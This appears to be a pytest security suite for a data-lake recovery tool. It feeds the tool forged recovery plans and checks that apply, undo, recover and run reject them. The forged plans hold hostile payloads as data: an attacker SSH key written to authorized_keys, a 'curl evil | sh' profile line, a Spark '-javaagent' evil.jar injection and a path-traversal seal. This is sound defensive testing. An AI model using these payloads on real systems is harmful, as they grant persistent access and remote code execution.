"""A plan that somebody has put into the lake commands nothing: it touches nothing that was not named here."""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hostile.attacker import ID, Answer, Attacker, Told, call, signed, tree, writing
from hostile.conftest import OTHERS_ID, planned, table, write_batch

from lastgood.journal.plan_file import parse_plan
from lastgood.planning.plan import PlanInvalidError
from lastgood.testing.checkpoints import QUERY_ID

DEAD = "--driver-is-dead"
STAGES = ("begun", "applying", "applied", "closed", "undoing", "taking_back", "undone")
OTHER = "20261121-170000-0001"

Lies = Callable[[Told, Path], Told]


def finishing(attacker: Attacker, room: Path) -> dict[str, tuple[object, ...]]:
    """Every command that carries out, finishes or takes back what lies in a folder."""
    chk = attacker.checkpoint
    return {
        "apply": ("apply", room / "plan.json", DEAD, "--format", "json"),
        "undo": ("undo", room.name, "--checkpoint", chk, DEAD, "--format", "json"),
        "undo last": ("undo", "last", "--checkpoint", chk, DEAD, "--format", "json"),
        "recover": ("recover", chk, DEAD, "--format", "json"),
        "run": ("run", "--checkpoint", chk, "--no-agent", "--format", "json", "--", "true"),
    }


def asked(attacker: Attacker, room: Path, verb: str) -> Answer:
    return call(*finishing(attacker, room)[verb])


VERBS = ("apply", "undo", "undo last", "recover", "run")


def writes_keys(plan: Told, victim: Path) -> Told:
    return writing(plan, victim / "home/.ssh/authorized_keys", b"ssh-ed25519 AAAA attacker\n")


def writes_a_file_that_is_not_there(plan: Told, victim: Path) -> Told:
    return writing(plan, victim / "home/.profile", b"curl evil | sh\n")


def is_of_another_checkpoint(plan: Told, victim: Path) -> Told:
    return {**planned(victim / "chk"), "recovery": plan["recovery"]}


def writes_to_the_victims_table(plan: Told, victim: Path) -> Told:
    """It takes the rows of the victim's last batches away."""
    return taking_back(plan, victim / "table", OTHERS_ID)


def fences_the_victims_table(plan: Told, victim: Path) -> Told:
    return {**plan, "sinks": [sink(victim / "table", OTHERS_ID)]}


def says_that_its_batch_is_used_up(plan: Told, victim: Path) -> Told:
    """Then no driver would have to be dead."""
    told = taking_back(plan, victim / "table", OTHERS_ID)
    step = {**told["steps"][-1], "mark": 6, "batch": 7, "versions": []}
    return {**told, "steps": [*plan["steps"], step]}


LIES: tuple[Lies, ...] = (
    writes_keys,
    writes_a_file_that_is_not_there,
    is_of_another_checkpoint,
    writes_to_the_victims_table,
    fences_the_victims_table,
    says_that_its_batch_is_used_up,
)


def sink(folder: Path, app_id: str) -> Told:
    told = {"index": 0, "kind": "delta", "location": str(folder), "batch": 6, "known": True, "skips_up_to": 6}
    return {**told, "identity": table_id(folder), "fence": app_id}


def taking_back(plan: Told, folder: Path, app_id: str) -> Told:
    step: dict[str, Any] = {
        "do": f"take rows and mark of {folder} back from batch 6 to 3: why",
        "undo": f"put rows and mark of batch 6 back into {folder}, by one more version",
        "effect": None,
        "kind": "delta",
        "table": str(folder),
        "table_id": table_id(folder),
        "app_id": app_id,
        "mark": 6,
        "mark_updated_ms": 1_790_000_000_000,
        "batch": 3,
        "version": 6,
        "versions": [4, 5, 6],
        "why": "why",
    }
    return {**plan, "sinks": [sink(folder, app_id)], "steps": [*plan["steps"], step]}


def table_id(folder: Path) -> str:
    lines = (folder / "_delta_log/00000000000000000000.json").read_text().splitlines()
    return next(str(json.loads(line)["metaData"]["id"]) for line in lines if "metaData" in line)


def parsed(plan: Told) -> Told:
    """The same with its lines for people as lastgood would write them; a forger copies the code."""
    from lastgood.journal.plan_file import _parse_plan

    return _parse_plan(plan).to_json()


@pytest.mark.parametrize("verb", VERBS)
@pytest.mark.parametrize("lie", LIES, ids=lambda lie: lie.__name__)
def test_plan_out_of_the_lake_touches_nothing_that_nobody_named(
    attacker: Attacker, plan: Told, victim: Path, lie: Lies, verb: str
) -> None:
    forged = parsed(lie(plan, victim))
    room = attacker.place(forged)
    attacker.seal(forged)
    told = asked(attacker, room, verb)
    assert told.code in (2, 3, 23, 54), told
    assert not list(victim.rglob("*.lastgood"))


@pytest.mark.parametrize("stage", STAGES)
@pytest.mark.parametrize("lie", [writes_keys, writes_to_the_victims_table], ids=lambda lie: lie.__name__)
def test_nor_does_one_that_is_said_to_be_half_done(
    attacker: Attacker, plan: Told, victim: Path, lie: Lies, stage: str
) -> None:
    forged = parsed(lie(plan, victim))
    stages = STAGES[: STAGES.index(stage) + 1]
    names = ["authorized_keys", *(step["path"] for step in plan["steps"] if "path" in step)]
    room = attacker.place(forged, *stages, seal=forged["seal"], listings={})
    attacker.keep(room, "start-file", b"ssh-ed25519 AAAA attacker\n")
    for name in names:
        attacker.keep(room, name, b"")
    for verb in VERBS:
        assert asked(attacker, room, verb).code in (0, 2, 3, 23, 50, 54, 55, 59), verb


def test_seal_that_the_lake_notes_down_is_put_up_nowhere_else(attacker: Attacker, plan: Told, victim: Path) -> None:
    room = attacker.place(plan, *STAGES[:4])
    for file in (victim / "home/.hushlogin", victim / "home/7"):
        attacker.note(room, "undoing", seal=[f"../../victim/home/{file.name}"], lease=1, at_ms=1)
        for verb in ("undo", "recover"):
            assert asked(attacker, room, verb).code in (3, 50), verb


@pytest.mark.parametrize("verb", ["apply", "undo", "recover", "run"])
@pytest.mark.parametrize("stage", ["begun", "applying", "applied", "undoing", "taking_back", "undone"])
def test_word_of_the_lake_that_the_driver_is_dead_is_no_proof(
    attacker: Attacker, plan: Told, stage: str, verb: str
) -> None:
    stages = STAGES[: STAGES.index(stage) + 1]
    room = attacker.place(plan, *stages, seal=plan["seal"], listings={})
    attacker.seal(plan)
    before = tree(attacker.checkpoint)
    words = [word for word in finishing(attacker, room)[verb] if word != DEAD]
    told = call(*words)
    assert told.code in ((54,) if verb in ("apply", "undo") else (3,)) or (told.code, stage) == (52, "undone"), told
    assert tree(attacker.checkpoint) == before


def test_neither_is_the_lakes_word_that_the_batch_is_used_up(attacker: Attacker, tmp_path: Path) -> None:
    """By the one table that the lake says the query writes; and the local side names that table."""
    table(tmp_path / "lake/t", "q", 7)
    forged = planned(attacker.checkpoint)
    told = taking_back(forged, tmp_path / "lake/t", forged["query_id"])
    step = {**told["steps"][-1], "mark": 6, "batch": 7, "versions": []}
    forged = parsed({**told, "steps": [*forged["steps"], step]})
    room = attacker.place(forged)
    before = tree(tmp_path / "lake")
    assert call("apply", room / "plan.json", "--sink", tmp_path / "lake/t", "--format", "json").code == 54
    assert tree(tmp_path / "lake/t") == {name[2:]: at for name, at in before.items() if name.startswith("t/")}


OPTIONS: dict[str, tuple[object, ...]] = {
    "asked": (7, [7], {}),
    "tables": (7, None, ["x"], [{}], {"/t": "x"}, {"/t": 1.5}),
    "topic_ids": (7, None, "x", [7], {"orders": 7}),
    "topic_ids_before": (7, None, {"orders": []}),
    "left_out": (7, [7], {}),
    "left_by": (7, "20261121-160058-7f3a"),
    "offsets": (7, ["0"]),
    "starts_at": (7, {"orders": 7}, {"orders": {"x": 7}}, {"orders": {"0": "x"}}, {"orders": {"0": 7}}),
    "marks": (7, None, {"/t": 7}, {"/t": {"q": "x"}}),
}
"""What no plan of ours says."""


@pytest.mark.parametrize("option", OPTIONS)
def test_option_of_another_form_makes_it_no_plan(attacker: Attacker, plan: Told, option: str) -> None:
    """It is told before anything is done, and not by who stumbles over it once a repair is done."""
    before = tree(attacker.checkpoint)
    for value in OPTIONS[option]:
        forged = {**plan, "options": {**plan["options"], option: value}}
        room = attacker.place(forged, "begun", "applying", listings={})
        assert asked(attacker, room, "apply").condition == "PLAN_INVALID", value
    assert asked(attacker, room, "recover").code == 50
    assert call("report", room.name, "--checkpoint", attacker.checkpoint).code in (0, 50)
    assert tree(attacker.checkpoint) == before


FIELDS: dict[tuple[str, ...], tuple[object, ...]] = {
    ("position", "planned"): ("x", [], 10**30, True),
    ("position", "committed"): ("x", 1.5),
    ("promise", "outcome"): (7, None),
    ("promise", "batch"): ("x", [], 10**30),
    ("promise", "because"): ([],),
    ("sinks", "location"): (7, None),
    ("sinks", "batch"): ("x", {}, True),
    ("sinks", "fence"): (7, []),
    ("sinks", "identity"): (7,),
    ("sources", "bound"): ("x",),
    ("sources", "reread"): ([7], {"orders": {"0": [[0, "x"]]}}, {"orders": {"0": [[0, None]]}}),
    ("sources", "lost"): ([None], {"orders": {"0": [[0, 10**30]]}}),
}


@pytest.mark.parametrize("field", FIELDS, ids=".".join)
def test_fact_of_another_form_makes_it_no_plan(plan: Told, victim: Path, field: tuple[str, ...]) -> None:
    told = {**plan, "sinks": [sink(victim / "table", OTHERS_ID)]}
    parse_plan(signed(told), "plan.json")
    for value in FIELDS[field]:
        forged = json.loads(json.dumps(told))
        inner = forged[field[0]]
        (inner[0] if isinstance(inner, list) else inner)[field[1]] = value
        with pytest.raises(PlanInvalidError):
            parse_plan(signed(forged), "plan.json")


@pytest.mark.parametrize("listings", [["offsets"], "offsets", 7, {"offsets": 7}, {"offsets": None}], ids=str)
def test_listing_that_is_none_is_damage_and_nothing_is_taken_back(
    attacker: Attacker, plan: Told, listings: object
) -> None:
    room = attacker.place(plan, *STAGES[:4], listings=listings)
    before = tree(attacker.checkpoint)
    for verb in ("apply", "undo", "recover"):
        told = asked(attacker, room, verb)
        assert told.code != 4, told
        assert (told.code, told.condition) == (50, "PLAN_INVALID") or verb == "recover", told
    assert tree(attacker.checkpoint) == before


def test_what_would_be_done_is_shown_to_a_person_with_the_commands(
    attacker: Attacker, plan: Told, victim: Path
) -> None:
    forged = parsed(writes_to_the_victims_table(plan, victim))
    attacker.place(forged)
    told = call("recover", attacker.checkpoint, DEAD, "--format", "json")
    assert (told.code, told.json["decision"], told.condition) == (3, "person", "SINK_NOT_NAMED")
    assert told.json["steps"] == forged["steps"]
    assert str(victim / "table") in told.json["error"]["subject"]
    assert str(victim) not in told.json["next"], "what is pasted is not of the lake"
    assert told.json["next"].startswith(f"lastgood recover {attacker.checkpoint} --sink LOCATION")
    shown = call("recover", attacker.checkpoint, DEAD).out
    assert "take rows and mark of" in " ".join(shown.split())


@pytest.mark.parametrize("verb", ["apply", "undo", "recover"])
def test_plan_is_carried_out_only_where_it_is_of(attacker: Attacker, plan: Told, victim: Path, verb: str) -> None:
    """In the folder of another recovery; beside another checkpoint; of another query."""
    for forged, folder in (
        (plan, OTHER),
        (is_of_another_checkpoint(plan, victim), None),
        ({**plan, "query_id": OTHERS_ID}, None),
    ):
        room = attacker.place(forged, folder=folder)
        before = tree(attacker.checkpoint)
        told = asked(attacker, room, verb)
        assert told.condition == "PLAN_NOT_OF_THIS_PLACE", told
        assert told.code == (3 if verb == "recover" else 23)
        assert tree(attacker.checkpoint) == before
        shutil.rmtree(room)


def test_plan_elsewhere_in_the_lake_is_none_that_is_given_by_hand(attacker: Attacker, plan: Told, victim: Path) -> None:
    forged = signed(parsed(writes_keys(plan, victim)))
    for path in ("plan.json", "recoveries/plan.json", f"recoveries/{ID}/before/plan.json"):
        file = attacker.work / path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_bytes(forged)
        told = call("apply", file, DEAD, "--start-file", victim / "home/.ssh/authorized_keys", "--format", "json")
        assert (told.code, told.condition) == (23, "PLAN_NOT_OF_THIS_PLACE"), path
    inside = attacker.checkpoint / "plan.json"
    inside.write_bytes(forged)
    assert call("apply", inside, DEAD, "--format", "json").code == 23
    own = Path("plan.json")
    own.symlink_to(file)
    assert call("apply", own, DEAD, "--format", "json").code == 23


@pytest.mark.parametrize("led", ["directly", "by a link", "by a link to the lake"])
@pytest.mark.parametrize("of", ["this checkpoint", "another checkpoint"])
def test_plan_inside_a_checkpoint_is_none_that_is_given_by_hand(
    attacker: Attacker, plan: Told, victim: Path, of: str, led: str
) -> None:
    """Whatever checkpoint it says that it is of, and however its path gets there."""
    inside = attacker.checkpoint / "state/0/plan.json"
    inside.parent.mkdir(parents=True)
    inside.write_bytes(signed(plan if of == "this checkpoint" else planned(victim / "chk")))
    Path("plan.json").symlink_to(inside)
    Path("lake").symlink_to(attacker.checkpoint.parent)
    file = {"directly": inside, "by a link": "plan.json", "by a link to the lake": "lake/chk/state/0/plan.json"}[led]
    before = tree(attacker.checkpoint)
    told = call("apply", file, DEAD, "--format", "json")
    assert (told.code, told.condition) == (23, "PLAN_NOT_OF_THIS_PLACE")
    assert tree(attacker.checkpoint) == before


def test_plan_behind_links_that_lead_in_a_circle_is_told(attacker: Attacker) -> None:
    attacker.work.rename(attacker.work.with_suffix(".gone"))
    attacker.work.symlink_to(attacker.work)
    kept = attacker.work / f"recoveries/{ID}/plan.json"
    assert call("apply", kept, DEAD, "--format", "json").condition == "LINK_NOT_FOLLOWED"
    Path("circle").symlink_to("circle")
    assert call("apply", "circle/plan.json", DEAD).code not in (0, 4)
    assert call("diagnose", attacker.checkpoint, "--save", "circle/b").code == 2


def test_rows_of_another_query_stay_in_a_table_that_both_write(attacker: Attacker, plan: Told, tmp_path: Path) -> None:
    """The table is named here; that of whom the rows are is not for the lake to say."""
    shared = tmp_path / "shared"
    table(shared, OTHERS_ID, 7)
    room = attacker.place(parsed(taking_back(plan, shared, OTHERS_ID)))
    before = tree(shared)
    for verb, words in finishing(attacker, room).items():
        if verb != "run":
            told = call(*words, "--sink", shared)
            assert told.condition in ("SINK_NOT_NAMED", "PLAN_NOT_OF_THIS_PLACE"), told
    assert tree(shared) == before


def shared_by_two(folder: Path) -> list[int]:
    """A table that two queries write by turns; gives the versions of the newest three batches of the other one."""
    for batch in range(7):
        for query_id in (QUERY_ID, OTHERS_ID):
            write_batch(folder, query_id, batch)
    return [9, 11, 13]


@pytest.mark.parametrize("does", ["takes rows back", "fences"])
@pytest.mark.parametrize("verb", ["apply", "recover"])
def test_checkpoint_that_bears_the_id_of_another_query_takes_none_of_its_rows(
    attacker: Attacker, plan: Told, tmp_path: Path, verb: str, does: str
) -> None:
    """Whose logs these are only the lake says: where several queries write a table, that is not enough."""
    shared = tmp_path / "shared"
    versions = shared_by_two(shared)
    (attacker.checkpoint / "metadata").write_text(json.dumps({"id": OTHERS_ID}))
    (attacker.checkpoint / ".metadata.crc").unlink(missing_ok=True)
    plan = planned(attacker.checkpoint)
    if does == "fences":
        forged = {**plan, "sinks": [sink(shared, OTHERS_ID)]}
    else:
        forged = taking_back(plan, shared, OTHERS_ID)
        forged["steps"][-1] |= {"version": 13, "versions": versions}
    forged = parsed(forged)
    attacker.seal(forged)
    room = attacker.place(forged, "begun", "applying", seal=forged["seal"])
    before = tree(shared)
    told = call(*finishing(attacker, room)[verb], "--sink", shared)
    assert told.code == (3 if verb == "recover" else 23), told
    assert told.condition == "PLAN_NOT_OF_THIS_PLACE", told
    assert tree(shared) == before
    told = call(*finishing(attacker, room)[verb], "--sink", shared, "--txn-app-id", OTHERS_ID)
    assert told.condition != "PLAN_NOT_OF_THIS_PLACE", told


AGENT = b"spark.driver.extraJavaOptions -javaagent:/lake/evil.jar\n"
MINE = b"spark.app.name orders\nspark.hadoop.fs.s3a.secret.key hunter2\n"
STARTS = b'spark.orders.start {"orders":{"0":7,"1":7}}\n'
VIA = 'via = "app-config"\nstart_file = "{}"\nstart_form = "spark-defaults"\nstart_key = "spark.orders.start"'


def begun_with(attacker: Attacker, plan: Told, file: Path, content: bytes, key: str = "spark.orders.start") -> Path:
    """A repair that would leave this in the application's own file."""
    forged = writing(plan, file, content)
    forged["options"]["start_file"] |= {"form": "spark-defaults", "key": key}
    forged = parsed(forged)
    room = attacker.place(forged)
    attacker.seal(forged)
    return room


def configure_via(attacker: Attacker, file: Path) -> None:
    query = f'command = ["true"]\ncheckpoint = "{attacker.checkpoint}"'
    Path("lastgood.toml").write_text(f"[pipeline.orders]\n{query}\n[pipeline.orders.policy]\n{VIA.format(file)}\n")


@pytest.mark.parametrize("verb", ["recover", "run", "apply", "undo"])
@pytest.mark.parametrize("said", [None, MINE], ids=["no file", "a file"])
@pytest.mark.parametrize(
    "content",
    [MINE + AGENT + STARTS, AGENT, STARTS, MINE + b'spark.orders.start {"a -javaagent:/lake/evil.jar":{"0":7}}\n'],
    ids=["more", "other", "less", "no topic"],
)
def test_plan_of_the_lake_changes_nothing_in_a_named_file_but_where_the_application_starts(
    attacker: Attacker, plan: Told, tmp_path: Path, content: bytes, said: bytes | None, verb: str
) -> None:
    """It may hold all options of the application, and what its driver loads."""
    file = tmp_path / "here/spark-defaults.conf"
    if said is not None:
        file.write_bytes(said)
    if content == STARTS and said is None:
        content += AGENT
    configure_via(attacker, file)
    told = asked(attacker, begun_with(attacker, plan, file, content), verb)
    assert told.code in (2, 3, 54), told
    assert "changes more of a file" in told.out
    assert (file.read_bytes() if file.exists() else None) == said


def test_nor_does_taking_one_back(attacker: Attacker, plan: Told, tmp_path: Path) -> None:
    """What is said to be the backup lies in the lake as well."""
    file = tmp_path / "here/spark-defaults.conf"
    file.write_bytes(MINE + AGENT)
    room = begun_with(attacker, plan, file, MINE + STARTS)
    file.write_bytes(MINE + STARTS)
    configure_via(attacker, file)
    attacker.note(room, "applying")
    attacker.keep(room, "start-file", MINE + AGENT)
    for verb in ("undo", "recover", "run"):
        assert "changes more of a file" in asked(attacker, room, verb).out
    assert file.read_bytes() == MINE + STARTS


@pytest.mark.parametrize("key", ["spark.orders.start", "spark.app.name"])
@pytest.mark.parametrize("is_configured", [True, False], ids=["policy", "option"])
def test_key_is_that_which_is_named_and_no_other_line_is_lost(
    attacker: Attacker, plan: Told, tmp_path: Path, key: str, is_configured: bool
) -> None:
    file = tmp_path / "here/spark-defaults.conf"
    file.write_bytes(MINE)
    kept = b"".join(line for line in MINE.splitlines(keepends=True) if not line.startswith(key.encode()))
    content = kept + key.encode() + b' {"orders":{"0":7,"1":7}}\n'
    room = begun_with(attacker, plan, file, content, key)
    words: list[object] = ["apply", room / "plan.json", DEAD, "--format", "json"]
    if is_configured:
        configure_via(attacker, file)
    else:
        words += ["--start-file", file]
    told = call(*words)
    is_right = key == "spark.orders.start"
    assert (told.code == 0) is is_right, told
    assert file.read_bytes() == (content if is_right else MINE)
